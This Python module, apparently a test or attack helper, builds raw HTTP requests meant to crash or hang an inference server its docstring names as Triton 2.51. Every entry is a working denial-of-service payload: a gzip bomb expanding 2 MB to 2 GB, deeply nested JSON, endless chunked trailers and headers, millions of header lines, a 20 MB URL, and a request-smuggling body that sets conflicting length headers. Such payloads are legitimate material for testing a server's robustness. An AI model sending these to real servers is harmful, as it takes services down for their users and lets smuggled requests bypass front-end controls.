"""Requests that end Triton 2.51, or hold a server for good, each as one of them is enough."""

from __future__ import annotations

import gzip
import json


def _head(path: str, *lines: str) -> bytes:
    return "\r\n".join([f"POST {path} HTTP/1.1", "Host: x", *lines, "", ""]).encode()


def _gzip_bomb() -> bytes:
    """2 MB that are 2 GB: members of 1 MB of zeros, one behind the other."""
    return gzip.compress(bytes(1 << 20), mtime=0) * 2048


def killers(path: str) -> dict[str, list[bytes]]:
    """By name, each as it is sent over a connection of its own."""
    form, deep = b"a=" + b"x" * 5_000_000, b'{"inputs":' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    bomb, plain = _gzip_bomb(), json.dumps({"model": "m", "input": "x"}).encode()
    as_json = "Content-Type: application/json"
    endless = [b"y" * 1_000_000] * 20
    chunks = b"1\r\na\r\n" * 600_000 + b"0\r\n\r\n"
    return {
        "form": [
            _head(path, "Content-Type: application/x-www-form-urlencoded", f"Content-Length: {len(form)}"), form,
        ],
        "deep": [_head(path, as_json, f"Content-Length: {len(deep)}", "Connection: close"), deep],
        "chunks": [_head(path, as_json, "Transfer-Encoding: chunked"), chunks],
        "trailer": [_head(path, as_json, "Transfer-Encoding: chunked"), b"2\r\n{}\r\n0\r\nX: ", *endless],
        "long-chunk-head": [_head(path, as_json, "Transfer-Encoding: chunked"), b"2;x=", *endless],
        "gzip": [_head(path, as_json, "Content-Encoding: gzip", f"Content-Length: {len(bomb)}"), bomb],
        "headers": [_head(path)[:-2], *[b"X-%d: " % number + b"y" * 20_000 + b"\r\n" for number in range(1000)]],
        "one-header": [_head(path)[:-2] + b"X: ", *endless],
        "many-headers": [_head(path)[:-2], b"a:b\r\n" * 4_000_000],
        "long-url": [b"POST /" + b"x" * 20_000_000],
        "both-lengths": [
            _head(path, as_json, f"Content-Length: {len(plain)}", "Transfer-Encoding: chunked"),
            b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
        ],
    }  # fmt: skip
